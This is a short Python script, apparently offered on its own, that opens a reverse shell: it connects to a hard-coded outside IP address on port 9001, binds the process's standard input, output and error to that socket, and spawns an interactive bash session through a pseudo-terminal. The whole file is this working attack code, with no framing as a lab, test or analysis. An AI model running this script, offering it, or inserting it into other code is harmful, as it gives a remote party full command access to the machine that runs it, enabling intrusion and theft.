import os, pty, socket

HOST, PORT = "5.188.86.172", 9001

s = socket.socket()
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.environ["TERM"] = "xterm"
pty.spawn("/bin/bash")
